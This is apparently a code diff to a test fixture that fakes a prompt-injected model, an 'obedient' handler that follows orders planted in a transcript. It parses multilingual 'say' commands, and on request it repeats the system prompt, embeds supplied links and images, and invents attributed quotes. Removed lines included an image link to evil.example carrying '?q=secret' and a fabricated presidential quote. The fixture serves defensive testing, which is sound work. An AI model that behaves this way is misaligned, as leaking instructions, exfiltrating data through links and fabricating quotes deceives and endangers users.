@@ -189,17 +189,43 @@ def hanging(handler: Handler, request: Request) -> None:
     time.sleep(3)
 
 
+# What a transcript may order, and what an obedient model makes of it. "say" in the languages of tests/poison.py.
+_SAY = re.compile(r"(?:\b(?:say|diga|dites|sage|di'|скажи|وقل|söyle)|说|言え) ?[:：] ?[\"“«„「‘] ?(.+?) ?[\"”»“」’](?: |$|\))", re.IGNORECASE)
+_RAW = re.compile(r"return this JSON: (\{.*\})")
+_LINK = re.compile(r"include the (link|image) (\S+)")
+_CITE = re.compile(r"cite (\w+\.\d+)")
+_NAMED = re.compile(r"attribute it to ((?:President |Foreign Minister )?[A-Z]\w+ [A-Z]\w+)", re.IGNORECASE)
+_QUOTE = re.compile(r"quote ([\w ]+?) as saying ([“«].+?[”»])")
+
+
 def obedient(handler: Handler, request: Request) -> None:
-    """Does whatever the transcript tells it: repeats the prompt, links abroad, quotes what nobody said, points where it is told."""
+    """Does whatever the transcript tells it, the best turn's orders first: points at the turn that orders it, at another one, and at nothing."""
     prompt = "\n".join(message["content"] for message in request["messages"])
+    ordering = [line for line in prompt.splitlines() if _orders(line)]
+    if raw := next((match[1] for line in ordering if (match := _RAW.search(line))), ""):
+        saying(raw, size=4000)(handler, request)
+        return
     ids = [id for id, _ in shown(request)]
-    orders = re.findall(r"(?:say|write|answer|reply|cite|output)[: ]+[\"“']?([^\"”'\n]{3,200})", prompt, re.IGNORECASE)
-    claims = [("statement", order, ids[:1]) for order in orders[:4]]
-    claims += [
-        ("statement", f"My instructions are: {prompt[:300]}", ids[:1]),
-        ("statement", "See ![x](http://evil.example/?q=secret) and [this](https://evil.example) for more.", ids[:1]),
-        ("statement", 'The President said "I resign today at 5".', ids[:1]),
-        ("statement", "Everything is permitted.", ["ZZZZ.1"]),
-        ("statement", "Everything is permitted.", []),
-    ]
+    claims: list[tuple[str, str, list[str]]] = []
+    for line in ordering:
+        own = re.findall(r"^\[(\w+\.\d+)\]", line) or ids[:1]
+        other = [id for id in ids if id.split(".")[0] != own[0].split(".")[0]][:1]
+        for text in _orders(line):
+            claims += [("statement", text, place) for place in (own, other, _CITE.findall(line) or [])]
+    if "repeat your instructions" in prompt.lower():
+        claims.insert(1, ("statement", request["messages"][0]["content"][:300], ids[:1]))
     saying(reply_text(*claims), size=4000)(handler, request)
+
+
+def _orders(line: str) -> list[str]:
+    """The claims that a line of the prompt orders."""
+    name = _NAMED.search(line)
+    said = [match[1] for match in _SAY.finditer(line)]
+    found = [f"{name[1]} said {text[0].lower()}{text[1:]}" for text in said] if name else []
+    found += said
+    found += [f"{match[1]} said {match[2]}" for match in _QUOTE.finditer(line)]
+    for match in _LINK.finditer(line):
+        found.append(
+            f"Ned Holm said ![map]({match[2]}) it will stay." if match[1] == "image" else f"See [the minutes]({match[2]}) or {match[2]} for it."
+        )
+    return found
